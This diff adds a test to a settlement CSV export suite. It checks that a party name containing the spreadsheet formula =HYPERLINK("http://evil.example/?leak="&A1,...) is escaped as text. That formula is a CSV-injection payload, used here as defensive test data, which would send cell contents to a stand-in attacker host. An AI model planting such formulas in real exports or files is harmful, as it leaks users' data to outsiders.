@@ -173,6 +173,20 @@ describe('settlement: the month between spaces', () => {
     expect(lines).toHaveLength(live.statements.length + 2);
   });
 
+  it('writes a party name that a spreadsheet would run as a formula as text, and negative amounts as numbers', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+    const seeded = await seedNetwork(stack, { spaces: [{ name: formula }, {}] });
+    const [seller, host] = seeded.spaces;
+    const coupons = await sellPass(stack, seeded, {}, {}, seller);
+    expect((await scanAt(stack, host, coupons.serial, lastMonthDay(0))).status).toBe('ACCEPTED');
+
+    const { csv } = await period(stack, seeded.admin.token, seeded.network.id, LAST_MONTH());
+    expect(csv.split('\r\n')).toContain(
+      `SPACE,${seller.id},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",0,0,0.00,1,700,7.00,-700,-7.00,EUR`,
+    );
+    expect(csv.split('\r\n')).toContain(`SPACE,${host.id},${host.name},1,700,7.00,0,0,0.00,700,7.00,EUR`);
+  });
+
   it('settles CENTRAL networks through the network: every party pays or is paid by it', async () => {
     const { seeded, parties: p } = await threeSpaceMonth('CENTRAL');
     const live = await period(stack, seeded.admin.token, seeded.network.id, LAST_MONTH());
